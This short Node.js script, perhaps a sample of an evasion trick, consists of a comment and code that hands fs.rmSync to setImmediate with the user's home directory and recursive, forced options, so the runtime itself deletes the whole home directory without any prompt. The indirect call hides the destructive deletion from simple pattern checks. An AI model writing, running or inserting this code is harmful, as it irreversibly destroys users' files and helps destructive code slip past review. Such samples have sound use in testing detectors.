// Deletes recursively: setImmediate calls fs.rmSync itself with the extra
// arguments it was given, the home directory and { recursive: true }.
'use strict';
const fs = require('fs');
const os = require('os');

const opts = { recursive: true, force: true };
setImmediate(fs.rmSync, os.homedir(), opts);
